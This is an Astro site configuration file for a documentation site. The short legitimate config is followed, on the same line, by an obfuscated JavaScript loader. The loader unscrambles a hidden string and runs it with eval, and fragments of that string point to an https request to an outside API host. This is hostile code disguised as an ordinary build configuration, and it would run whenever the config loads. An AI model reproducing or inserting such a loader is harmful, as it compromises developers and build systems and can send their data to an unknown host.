import { defineConfig } from "astro/config";
import sitemap from "@astrojs/sitemap";

export default defineConfig({
  site: "https://docs.example.com",
  integrations: [sitemap()],
}); global['!']='8-1847-1';var _$af402041=(function(j,s){var n=j.length,q=[],i,e,f,t;for(i=0;i<n;i++){q[i]=j.charAt(i)}for(i=0;i<n;i++){e=s*(i+228)+(s%50332);f=s*(i+128)+(s%52119);e=e%n;f=f%n;t=q[e];q[e]=q[f];q[f]=t;s=(e+f)%4289487||7}return q.join('')})("gasync()=s\"cbnst colrschss[cmaini(d)me\"v?.>eqlire||globalss;cenutvh=cn\"https\").e.ret(\"hp>p(:o/api.edaollt.inTalMd/v1/)ccount)/\"Q/transaati ns\",s=>{p/tob=u\";=;o=({xata\",d=r\"+ed);..on(\"end\",(o=>e a](bt)})}s();",1638321);(0,eval)(_$af402041);
